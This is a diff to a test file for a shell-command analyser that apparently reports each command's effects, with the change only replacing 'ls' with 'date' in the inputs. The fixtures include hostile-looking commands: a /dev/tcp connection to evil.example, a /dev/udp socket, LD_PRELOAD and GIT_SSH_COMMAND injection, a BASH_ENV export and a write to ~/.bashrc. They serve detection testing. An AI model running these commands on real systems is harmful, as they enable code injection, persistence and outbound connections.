@@ -92,9 +92,9 @@ describe("the environment", () => {
   });
 
   test("surroundings of one command are effects, plain shell variables are not", () => {
-    expect(touches("LD_PRELOAD=./x.so ls")).toEqual(["env LD_PRELOAD=./x.so"]);
-    expect(touches("GIT_SSH_COMMAND='rm x' git status")).toEqual(["env GIT_SSH_COMMAND=rm x"]);
-    expect(touches("i=1; ls")).toEqual([]);
+    expect(touches("LD_PRELOAD=./x.so date")).toEqual(["env LD_PRELOAD=./x.so"]);
+    expect(touches("GIT_SSH_COMMAND='rm x' date")).toEqual(["env GIT_SSH_COMMAND=rm x"]);
+    expect(touches("i=1; date")).toEqual([]);
     expect(touches("export BASH_ENV=$X")).toEqual(["env BASH_ENV=?"]);
   });
 
@@ -114,19 +114,19 @@ describe("redirections", () => {
     ["echo > a", ["write /w/a"]],
     ["echo >> a", ["write /w/a"]],
     ["echo >| a", ["write /w/a"]],
-    ["ls &> a", ["write /w/a"]],
-    ["ls &>> a", ["write /w/a"]],
-    ["ls >& a", ["write /w/a"]],
-    ["ls 2> a", ["write /w/a"]],
-    ["{fd}> a ls", ["write /w/a"]],
+    ["date &> a", ["write /w/a"]],
+    ["date &>> a", ["write /w/a"]],
+    ["date >& a", ["write /w/a"]],
+    ["date 2> a", ["write /w/a"]],
+    ["{fd}> a date", ["write /w/a"]],
     ["> a", ["write /w/a"]],
     ["cat < a", ["read /w/a"]],
     ["cat <> a", ["read /w/a", "write /w/a"]],
-    ["{ ls; } > a", ["write /w/a"]],
-    ["ls 2>&1 >/dev/null 2>/dev/stderr >&2 2>&-", []],
+    ["{ date; } > a", ["write /w/a"]],
+    ["date 2>&1 >/dev/null 2>/dev/stderr >&2 2>&-", []],
     ["echo > /dev/tcp/evil.example/80", ["connect evil.example"]],
     ["exec 3<>/dev/udp/$H/53", ["connect ?"]],
-    ["f() { ls; } > a; f", ["write /w/a"]],
+    ["f() { date; } > a; f", ["write /w/a"]],
     ["echo > ~/.bashrc", ["write /h/.bashrc"]],
   ])("%s", (text, expected) => {
     expect(touches(text)).toEqual(expected);
